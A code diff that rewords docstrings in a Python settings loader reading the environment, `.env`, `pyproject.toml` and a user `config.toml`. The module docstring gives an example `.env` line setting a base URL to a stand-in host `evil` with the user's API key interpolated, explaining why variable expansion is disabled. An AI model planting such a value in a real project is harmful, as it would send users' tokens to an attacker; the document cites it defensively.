@@ -1,8 +1,8 @@
 """Reads settings from the environment, `.env`, `pyproject.toml` and the user's `config.toml`.
 
-A file is read again when it has changed. The process's environment is never modified. A `.env` is
-read without interpolation: in a cloned project, `SWIFTASK_BASE_URL=https://evil/${SWIFTASK_API_KEY}`
-would otherwise send the user's token to that host.
+A changed file is read again. The process's environment is never modified. Variables inside a `.env`
+are not expanded. With expansion, the `.env` of a cloned project could set
+`SWIFTASK_BASE_URL=https://evil/${SWIFTASK_API_KEY}` and send the user's token to the host `evil`.
 """
 
 from __future__ import annotations
@@ -33,13 +33,12 @@ _YES, _NO = ("", "1", "true", "yes", "on"), ("0", "false", "no", "off")
 
 
 class ResolvedSetting(Redacted, frozen=True):
-    """The value of one setting, and where it was set.
+    """The value of one setting, and the place where the setting was set.
 
     Attributes:
         value: the value.
-        origin: a text that says where it was set, such as `SWIFTASK_API_KEY in the environment`.
-        file: the path of the project's file that sets it, which another person may have written;
-            empty for all other sources.
+        origin: a text that names the place, such as `SWIFTASK_API_KEY in the environment`.
+        file: the path of the project's file that sets the value; empty for other places.
     """
 
     redacted_fields = frozenset(("value",))
@@ -50,10 +49,12 @@ class ResolvedSetting(Redacted, frozen=True):
 
 
 class Table(Redacted, frozen=True):
-    """The settings in one table of a TOML file: those of the file, or of one named connection.
+    """One table of settings in a TOML file.
+
+    The table holds the settings of the file itself, or the settings of one named connection.
 
     Attributes:
-        values: the keys and values.
+        values: a dict that maps keys to values.
         origin: a text that names the file and, for a named connection, the connection.
         file: the path of a project's `pyproject.toml`; empty for the user's own `config.toml`.
     """
@@ -66,7 +67,7 @@ class Table(Redacted, frozen=True):
 
     @property
     def connections(self) -> Mapping[str, Any]:
-        """The tables of the named connections, by name."""
+        """A dict that maps the name of each named connection to the connection's table."""
         named: Mapping[str, Any] = self.values.get("connections", {})
         return named
 
@@ -76,8 +77,8 @@ class Sources:
 
     Args:
         environ: the environment variables.
-        directory: where the search for `.env` and `pyproject.toml` begins; it continues in the
-            parent directories. Default: the current directory at the time of each reading.
+        directory: the directory where the search for `.env` and `pyproject.toml` begins. The search
+            continues in the parent directories. `None` means the current directory.
     """
 
     def __init__(self, environ: Mapping[str, str], directory: Path | None = None) -> None:
@@ -86,7 +87,9 @@ class Sources:
         self._cache: dict[Path, tuple[tuple[int, int], Any]] = {}
 
     def layers(self) -> Iterator[dict[str, ResolvedSetting]]:
-        """Yield the settings of each source by name; the highest precedence comes first.
+        """Yield one dict of settings for each source. The first dict has the highest precedence.
+
+        A dict maps the name of a setting to the value and the origin of the setting.
 
         Raises:
             ConfigurationError: a file cannot be read, or has an invalid setting.
@@ -98,10 +101,10 @@ class Sources:
             yield self._from_table(table)
 
     def tables(self) -> Iterator[Table]:
-        """Yield the table of the project's `pyproject.toml`, then that of the user's `config.toml`.
+        """Yield the settings in `pyproject.toml`, then the settings in the user's `config.toml`.
 
-        The project's file is the nearest one with a table `tool.swiftask`, in the start directory
-        or above. A missing file is skipped.
+        The search for a `pyproject.toml` with a table `tool.swiftask` begins in the start
+        directory. The search continues in the parent directories. A missing file is skipped.
 
         Raises:
             ConfigurationError: a file cannot be read, or has an invalid setting.
@@ -174,15 +177,15 @@ class Sources:
         return sorted({name for table in self.tables() for name in table.connections})
 
     def connection(self, name: str) -> dict[str, ResolvedSetting]:
-        """Return the settings of a named connection.
+        """Return a dict that maps the names of settings to the settings of a named connection.
 
         Raises:
-            ConfigurationError: no connection has that name.
+            ConfigurationError: no connection has the name.
         """
         return self._from_table(self._connection_table(name))
 
     def missing_token_reason(self, name: str) -> str:
-        """Return the reason why a named connection has no token, as a part of an error message."""
+        """Return a text that says why a named connection has no token, for an error message."""
         variable = self._connection_table(name).values.get("token_env")
         if variable is None:
             return f"connection {name} names no token_env"
@@ -209,13 +212,13 @@ class Sources:
         return settings
 
     def _token(self, variable: str, table: Table) -> ResolvedSetting | None:
-        """Return the token in this variable, from the environment or else from a `.env` file.
+        """Return the token that the environment variable `variable` holds, or `None`.
 
-        Return `None` if neither sets the variable.
+        If the environment lacks the variable, the token comes from a `.env` file.
 
         Raises:
-            ConfigurationError: a project's file names a variable that does not begin with
-                `SWIFTASK_`.
+            ConfigurationError: `table` is from a project's file, and the name of the variable does
+                not begin with `SWIFTASK_`.
         """
         if table.file and not variable.startswith("SWIFTASK_"):
             raise ConfigurationError(
@@ -242,7 +245,7 @@ class Sources:
         return next((path for each in self._directories() if (path := each / name).is_file()), None)
 
     def _read(self, path: Path, parse: Callable[[Path], Any]) -> Any:
-        """Return the parsed content of a file; parse it again only if its time or size has changed.
+        """Return the parsed content of a file. An unchanged file is not parsed again.
 
         Raises:
             ConfigurationError: the file can't be read or parsed.
@@ -258,7 +261,7 @@ class Sources:
 
 
 def user_config_path() -> Path:
-    """Return the path of the user's `config.toml`; the file may not exist."""
+    """Return the path of the user's `config.toml`. The file may not exist."""
     import platformdirs
 
     return Path(platformdirs.user_config_dir("swiftask_jupyter", appauthor=False)) / "config.toml"
@@ -301,6 +304,8 @@ def _validated(
         file: the project's file; empty for the user's own `config.toml`.
         switches: which of `SWITCHES` the table may have.
     """
+    # An invalid value is not ignored: without its base URL, a connection would send its token to
+    # the default host.
     if not isinstance(values, dict):
         raise ConfigurationError(f"{origin} is not a table of settings")
     if "token" in values:
